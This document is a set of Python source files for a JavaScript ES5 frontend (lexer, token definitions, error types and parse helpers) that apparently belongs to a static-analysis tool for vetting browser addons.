    """Render a numeric property key the way JavaScript coerces it."""
    if value == int(value):
        return str(int(value))
    return repr(value)


def _with_recursion_room(source: str, filename: str, run):
    """Tokenize and run a parse under a raised (bounded) recursion limit.

    The parser is recursive-descent, so deeply nested expressions consume
    Python stack; the limit is raised (bounded) for the duration of the
    parse so legitimately deep inputs don't hit Python's default ceiling.
    """
    import sys

    tokens = tokenize(source, filename)
    wanted = min(100_000, max(sys.getrecursionlimit(), 40 * 256 + len(tokens) * 10))
    previous = sys.getrecursionlimit()
    sys.setrecursionlimit(max(previous, wanted))
    try:
        return run(Parser(tokens, filename))
    finally:
        sys.setrecursionlimit(previous)


def parse(source: str, filename: str = "<addon>") -> ast.Program:
    """Parse JavaScript ``source`` into an AST."""
    return _with_recursion_room(source, filename, Parser.parse_program)


def parse_with_recovery(
    source: str, filename: str = "<addon>"
) -> tuple[ast.Program, list[SkippedStatement]]:
    """Parse ``source``, skipping unparseable top-level statements.

    Returns the program built from the statements that did parse plus
    the list of skipped spans. A lexer error still raises (there is no
    token stream to resynchronize on).
    """
    return _with_recursion_room(
        source, filename, Parser.parse_program_with_recovery
    )
