"""Error types for the JavaScript frontend.

All frontend errors carry a source position so that tooling built on top of
the analysis (the CLI, the vetting harness) can point the user at the exact
location in the addon source.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class SourcePosition:
    """A position in a source file: 1-based line, 0-based column."""

    line: int
    column: int
    offset: int = 0

    def __str__(self) -> str:
        return f"{self.line}:{self.column}"


@dataclass(frozen=True)
class Span:
    """A source span: from ``start`` up to and including ``end``.

    The one span format shared by everything that points at addon
    source: lint findings (:mod:`repro.lint`) and the degradation
    records of recovery-mode parsing both render spans this way, so a
    vetting report's skip notes and a lint report's findings line up.
    """

    start: SourcePosition
    end: SourcePosition

    @classmethod
    def at(cls, position: SourcePosition) -> "Span":
        """The single-point span at ``position``."""
        return cls(start=position, end=position)

    def __str__(self) -> str:
        if self.start == self.end:
            return str(self.start)
        return f"{self.start}-{self.end}"

    def to_json(self) -> dict:
        return {
            "start": {"line": self.start.line, "column": self.start.column},
            "end": {"line": self.end.line, "column": self.end.column},
        }


class FrontendError(Exception):
    """Base class for all JavaScript frontend errors."""

    def __init__(self, message: str, position: SourcePosition | None = None):
        self.message = message
        self.position = position
        location = f" at {position}" if position is not None else ""
        super().__init__(f"{message}{location}")


class LexError(FrontendError):
    """Raised when the lexer encounters an invalid character sequence."""


class ParseError(FrontendError):
    """Raised when the parser encounters a malformed program."""


class UnsupportedSyntaxError(ParseError):
    """Raised for JavaScript constructs outside the supported ES5 subset.

    The analysis deliberately rejects constructs whose semantics it cannot
    model soundly (``with``, getters/setters, generators, ...), mirroring
    the paper's restriction of addons to a statically analyzable subset.
    """
