"""Error types for the JavaScript frontend.

All frontend errors carry a source position so that tooling built on top of
the analysis (the CLI, the vetting harness) can point the user at the exact
location in the addon source.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class SourcePosition:
    """A position in a source file: 1-based line, 0-based column."""

    line: int
    column: int
    offset: int = 0

    def __str__(self) -> str:
        return f"{self.line}:{self.column}"


class FrontendError(Exception):
    """Base class for all JavaScript frontend errors."""

    def __init__(self, message: str, position: SourcePosition | None = None):
        self.message = message
        self.position = position
        location = f" at {position}" if position is not None else ""
        super().__init__(f"{message}{location}")


class LexError(FrontendError):
    """Raised when the lexer encounters an invalid character sequence."""


class ParseError(FrontendError):
    """Raised when the parser encounters a malformed program."""


class UnsupportedSyntaxError(ParseError):
    """Raised for JavaScript constructs outside the supported ES5 subset.

    The analysis deliberately rejects constructs whose semantics it cannot
    model soundly (``with``, getters/setters, generators, ...), mirroring
    the paper's restriction of addons to a statically analyzable subset.
    """
