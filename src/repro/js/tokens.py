"""Token definitions for the JavaScript lexer.

The token vocabulary covers the ES5 subset used by browser addons: all the
statement/expression syntax, string/number/regex/boolean/null literals, and
the full punctuator set. Tokens carry their source position for diagnostics
and for mapping analysis results back to addon source lines.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.js.errors import SourcePosition


class TokenType(enum.Enum):
    """Lexical categories produced by the lexer."""

    IDENTIFIER = enum.auto()
    KEYWORD = enum.auto()
    NUMBER = enum.auto()
    STRING = enum.auto()
    REGEX = enum.auto()
    PUNCTUATOR = enum.auto()
    EOF = enum.auto()


#: Reserved words recognized as keywords. Future-reserved words that the
#: supported subset never uses are still reserved so they cannot be used as
#: identifiers (matching ES5 strict-ish behaviour).
KEYWORDS = frozenset(
    {
        "break", "case", "catch", "continue", "debugger", "default", "delete",
        "do", "else", "finally", "for", "function", "if", "in", "instanceof",
        "new", "return", "switch", "this", "throw", "try", "typeof", "var",
        "void", "while", "with",
        "true", "false", "null", "undefined",
        # Future reserved words we reject at parse time.
        "class", "const", "enum", "export", "extends", "import", "super",
        "let", "yield",
    }
)

#: All multi-character punctuators, longest first so the lexer can do
#: maximal-munch matching by trying lengths 4, 3, 2, 1 in order.
PUNCTUATORS = [
    ">>>=",
    "===", "!==", ">>>", "<<=", ">>=",
    "==", "!=", "<=", ">=", "&&", "||", "++", "--", "<<", ">>",
    "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=",
    "{", "}", "(", ")", "[", "]", ";", ",", "<", ">", "+", "-", "*", "/",
    "%", "&", "|", "^", "!", "~", "?", ":", "=", ".",
]

_PUNCTUATORS_BY_LENGTH: dict[int, frozenset[str]] = {}
for _p in PUNCTUATORS:
    _PUNCTUATORS_BY_LENGTH.setdefault(len(_p), set()).add(_p)  # type: ignore[arg-type]
_PUNCTUATORS_BY_LENGTH = {
    length: frozenset(values) for length, values in _PUNCTUATORS_BY_LENGTH.items()
}


def punctuators_of_length(length: int) -> frozenset[str]:
    """Return the set of punctuators with exactly ``length`` characters."""
    return _PUNCTUATORS_BY_LENGTH.get(length, frozenset())


@dataclass(frozen=True)
class Token:
    """A single lexical token.

    ``value`` is the raw lexeme for identifiers/keywords/punctuators, the
    decoded string for string literals, the literal text for numbers (decoded
    lazily by the parser), and the pattern body for regex literals.
    """

    type: TokenType
    value: str
    position: SourcePosition
    #: True when at least one line terminator appeared between the previous
    #: token and this one. Needed for automatic semicolon insertion and for
    #: restricted productions (return/throw/break/continue ++/--).
    preceded_by_newline: bool = False

    def is_punctuator(self, *values: str) -> bool:
        return self.type is TokenType.PUNCTUATOR and self.value in values

    def is_keyword(self, *values: str) -> bool:
        return self.type is TokenType.KEYWORD and self.value in values

    def __str__(self) -> str:
        if self.type is TokenType.EOF:
            return "<eof>"
        return f"{self.type.name.lower()}({self.value!r})"
