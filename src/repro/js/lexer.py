"""A hand-written lexer for the ES5 subset used by browser addons.

The lexer performs maximal-munch tokenization with:

- full comment handling (line and block comments, with newline tracking
  through block comments for automatic semicolon insertion),
- string literals with the usual escape sequences,
- decimal / hex / octal-free numeric literals,
- regular-expression literals, disambiguated from division using the
  standard previous-token heuristic (a ``/`` starts a regex unless the
  previous significant token could end an expression),
- newline tracking on every token (``preceded_by_newline``) so the parser
  can implement automatic semicolon insertion and restricted productions.
"""

from __future__ import annotations

from repro.js.errors import LexError, SourcePosition
from repro.js.tokens import KEYWORDS, Token, TokenType, punctuators_of_length

_LINE_TERMINATORS = "\n\r  "
_WHITESPACE = " \t\v\f ﻿"

_IDENT_START = frozenset(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_$"
)
_IDENT_PART = _IDENT_START | frozenset("0123456789")
_DIGITS = frozenset("0123456789")
_HEX_DIGITS = frozenset("0123456789abcdefABCDEF")

#: Tokens after which a ``/`` must be a division operator rather than the
#: start of a regular expression literal: identifiers, literals, and the
#: closing brackets of expressions.
_REGEX_FORBIDDEN_PUNCTUATORS = frozenset({")", "]", "}", "++", "--"})
_REGEX_FORBIDDEN_KEYWORDS = frozenset({"this", "true", "false", "null", "undefined"})

_STRING_ESCAPES = {
    "b": "\b",
    "f": "\f",
    "n": "\n",
    "r": "\r",
    "t": "\t",
    "v": "\v",
    "0": "\0",
    "'": "'",
    '"': '"',
    "\\": "\\",
    "/": "/",
}


class Lexer:
    """Tokenizes JavaScript source text.

    Use :func:`tokenize` for the common whole-program case; the class is
    exposed for incremental consumers and for tests that exercise individual
    scanning routines.
    """

    def __init__(self, source: str, filename: str = "<addon>"):
        self.source = source
        self.filename = filename
        self.pos = 0
        self.line = 1
        self.column = 0
        self._previous_significant: Token | None = None

    def tokenize(self) -> list[Token]:
        """Produce the full token stream, ending with a single EOF token."""
        tokens: list[Token] = []
        while True:
            token = self.next_token()
            tokens.append(token)
            if token.type is TokenType.EOF:
                return tokens

    # ------------------------------------------------------------------
    # Scanning machinery

    def _position(self) -> SourcePosition:
        return SourcePosition(self.line, self.column, self.pos)

    def _peek(self, ahead: int = 0) -> str:
        index = self.pos + ahead
        if index < len(self.source):
            return self.source[index]
        return ""

    def _advance(self, count: int = 1) -> None:
        for _ in range(count):
            if self.pos >= len(self.source):
                return
            ch = self.source[self.pos]
            self.pos += 1
            if ch in _LINE_TERMINATORS:
                # Treat \r\n as a single terminator for line counting.
                if not (ch == "\r" and self._peek() == "\n"):
                    self.line += 1
                    self.column = 0
            else:
                self.column += 1

    def _skip_whitespace_and_comments(self) -> bool:
        """Skip to the next token start; return True if a newline was seen."""
        saw_newline = False
        while self.pos < len(self.source):
            ch = self._peek()
            if ch in _WHITESPACE:
                self._advance()
            elif ch in _LINE_TERMINATORS:
                saw_newline = True
                self._advance()
            elif ch == "/" and self._peek(1) == "/":
                while self.pos < len(self.source) and self._peek() not in _LINE_TERMINATORS:
                    self._advance()
            elif ch == "/" and self._peek(1) == "*":
                saw_newline |= self._skip_block_comment()
            else:
                break
        return saw_newline

    def _skip_block_comment(self) -> bool:
        start = self._position()
        self._advance(2)
        saw_newline = False
        while self.pos < len(self.source):
            if self._peek() in _LINE_TERMINATORS:
                saw_newline = True
            if self._peek() == "*" and self._peek(1) == "/":
                self._advance(2)
                return saw_newline
            self._advance()
        raise LexError("unterminated block comment", start)

    # ------------------------------------------------------------------
    # Token production

    def next_token(self) -> Token:
        saw_newline = self._skip_whitespace_and_comments()
        position = self._position()
        if self.pos >= len(self.source):
            return Token(TokenType.EOF, "", position, saw_newline)

        ch = self._peek()
        if ch in _IDENT_START:
            token = self._scan_identifier(position, saw_newline)
        elif ch in _DIGITS or (ch == "." and self._peek(1) in _DIGITS):
            token = self._scan_number(position, saw_newline)
        elif ch in ("'", '"'):
            token = self._scan_string(position, saw_newline)
        elif ch == "/" and self._regex_allowed():
            token = self._scan_regex(position, saw_newline)
        else:
            token = self._scan_punctuator(position, saw_newline)

        self._previous_significant = token
        return token

    def _regex_allowed(self) -> bool:
        prev = self._previous_significant
        if prev is None:
            return True
        if prev.type in (TokenType.IDENTIFIER, TokenType.NUMBER, TokenType.STRING,
                         TokenType.REGEX):
            return False
        if prev.type is TokenType.KEYWORD:
            return prev.value not in _REGEX_FORBIDDEN_KEYWORDS
        if prev.type is TokenType.PUNCTUATOR:
            return prev.value not in _REGEX_FORBIDDEN_PUNCTUATORS
        return True

    def _scan_identifier(self, position: SourcePosition, saw_newline: bool) -> Token:
        start = self.pos
        while self.pos < len(self.source) and self._peek() in _IDENT_PART:
            self._advance()
        text = self.source[start:self.pos]
        token_type = TokenType.KEYWORD if text in KEYWORDS else TokenType.IDENTIFIER
        return Token(token_type, text, position, saw_newline)

    def _scan_number(self, position: SourcePosition, saw_newline: bool) -> Token:
        start = self.pos
        if self._peek() == "0" and self._peek(1) in ("x", "X"):
            self._advance(2)
            if self._peek() not in _HEX_DIGITS:
                raise LexError("malformed hex literal", position)
            while self._peek() in _HEX_DIGITS:
                self._advance()
        else:
            while self._peek() in _DIGITS:
                self._advance()
            if self._peek() == ".":
                self._advance()
                while self._peek() in _DIGITS:
                    self._advance()
            if self._peek() in ("e", "E"):
                self._advance()
                if self._peek() in ("+", "-"):
                    self._advance()
                if self._peek() not in _DIGITS:
                    raise LexError("malformed exponent", position)
                while self._peek() in _DIGITS:
                    self._advance()
        if self._peek() in _IDENT_START:
            raise LexError("identifier starts immediately after number", position)
        return Token(TokenType.NUMBER, self.source[start:self.pos], position, saw_newline)

    def _scan_string(self, position: SourcePosition, saw_newline: bool) -> Token:
        quote = self._peek()
        self._advance()
        parts: list[str] = []
        while True:
            if self.pos >= len(self.source):
                raise LexError("unterminated string literal", position)
            ch = self._peek()
            if ch == quote:
                self._advance()
                break
            if ch in _LINE_TERMINATORS:
                raise LexError("newline in string literal", position)
            if ch == "\\":
                self._advance()
                parts.append(self._scan_escape(position))
            else:
                parts.append(ch)
                self._advance()
        return Token(TokenType.STRING, "".join(parts), position, saw_newline)

    def _scan_escape(self, position: SourcePosition) -> str:
        if self.pos >= len(self.source):
            raise LexError("unterminated escape sequence", position)
        ch = self._peek()
        if ch in _LINE_TERMINATORS:
            # Line continuation: contributes nothing to the string value.
            self._advance()
            return ""
        self._advance()
        if ch in _STRING_ESCAPES:
            return _STRING_ESCAPES[ch]
        if ch == "x":
            return self._scan_hex_escape(position, 2)
        if ch == "u":
            return self._scan_hex_escape(position, 4)
        # Per ES5, unknown escapes denote the character itself.
        return ch

    def _scan_hex_escape(self, position: SourcePosition, length: int) -> str:
        digits = self.source[self.pos:self.pos + length]
        if len(digits) < length or any(d not in _HEX_DIGITS for d in digits):
            raise LexError("malformed hex escape in string", position)
        self._advance(length)
        return chr(int(digits, 16))

    def _scan_regex(self, position: SourcePosition, saw_newline: bool) -> Token:
        start = self.pos
        self._advance()  # leading '/'
        in_class = False
        while True:
            if self.pos >= len(self.source) or self._peek() in _LINE_TERMINATORS:
                raise LexError("unterminated regular expression", position)
            ch = self._peek()
            if ch == "\\":
                self._advance(2)
                continue
            if ch == "[":
                in_class = True
            elif ch == "]":
                in_class = False
            elif ch == "/" and not in_class:
                self._advance()
                break
            self._advance()
        while self._peek() in _IDENT_PART:  # flags
            self._advance()
        return Token(TokenType.REGEX, self.source[start:self.pos], position, saw_newline)

    def _scan_punctuator(self, position: SourcePosition, saw_newline: bool) -> Token:
        for length in (4, 3, 2, 1):
            candidate = self.source[self.pos:self.pos + length]
            if candidate in punctuators_of_length(length):
                self._advance(length)
                return Token(TokenType.PUNCTUATOR, candidate, position, saw_newline)
        raise LexError(f"unexpected character {self._peek()!r}", position)


def tokenize(source: str, filename: str = "<addon>") -> list[Token]:
    """Tokenize ``source`` into a list of tokens ending with EOF."""
    return Lexer(source, filename).tokenize()
